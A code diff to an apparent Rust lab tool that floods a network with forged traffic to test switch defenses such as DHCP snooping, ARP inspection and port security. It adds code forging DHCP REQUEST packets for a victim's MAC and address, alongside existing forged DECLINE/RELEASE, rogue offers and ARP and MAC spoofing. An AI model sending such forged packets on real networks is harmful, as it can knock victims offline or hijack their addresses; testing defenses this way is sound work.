@@ -5,7 +5,7 @@
 //!
 //! The mix, each kind in turn:
 //! - DHCP DISCOVERs from random MACs (a PXE retry loop; the pool's addresses go on offers);
-//! - DHCP DECLINE and RELEASE forged for the victim's MAC and address;
+//! - DHCP REQUESTs, DECLINEs and RELEASEs forged for the victim's MAC and address;
 //! - a rogue DHCP server's OFFER (dropped by DHCP snooping);
 //! - ARP replies claiming the lab's address and the victim's (dropped by ARP inspection);
 //! - frames with the victim's MAC as their source (dropped by port security);
@@ -36,6 +36,7 @@ pub struct FloodTarget {
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
 pub enum FloodKind {
     DhcpDiscover,
+    ForgedRequest,
     ForgedDecline,
     ForgedRelease,
     RogueOffer,
@@ -51,8 +52,9 @@ pub enum FloodKind {
 
 impl FloodKind {
     /// Every kind, in the order the flood sends them.
-    pub const ALL: [FloodKind; 12] = [
+    pub const ALL: [FloodKind; 13] = [
         FloodKind::DhcpDiscover,
+        FloodKind::ForgedRequest,
         FloodKind::ForgedDecline,
         FloodKind::ForgedRelease,
         FloodKind::RogueOffer,
@@ -112,6 +114,11 @@ impl Flood {
                 let mac = self.mac();
                 let xid = self.rng.u32(..);
                 udp(mac, Mac::BROADCAST, Ipv4Addr::UNSPECIFIED, Ipv4Addr::BROADCAST, 68, 67, dhcp(1, xid, mac, Ipv4Addr::UNSPECIFIED, &[53, 1, 1]))
+            }
+            FloodKind::ForgedRequest => {
+                let (mac, ip) = (self.mac(), t.victim_ip.octets());
+                let opts = [&[53, 1, 3, 50, 4][..], &ip[..], &[54, 4], &t.server_ip.octets()[..]].concat();
+                udp(mac, Mac::BROADCAST, Ipv4Addr::UNSPECIFIED, Ipv4Addr::BROADCAST, 68, 67, dhcp(1, self.rng.u32(..), t.victim_mac, Ipv4Addr::UNSPECIFIED, &opts))
             }
             FloodKind::ForgedDecline => {
                 let (mac, ip) = (self.mac(), t.victim_ip.octets());
@@ -273,6 +280,7 @@ mod test {
                 FloodKind::RogueOffer => Some(Forward::RogueDhcp),
                 FloodKind::ArpClaimServer | FloodKind::ArpClaimVictim => Some(Forward::ArpSpoofed),
                 FloodKind::VictimMacSpoof => Some(Forward::Spoofed),
+                FloodKind::ForgedRelease => Some(Forward::IpSpoofed),
                 _ => None,
             };
             if let Some(expected) = expected {
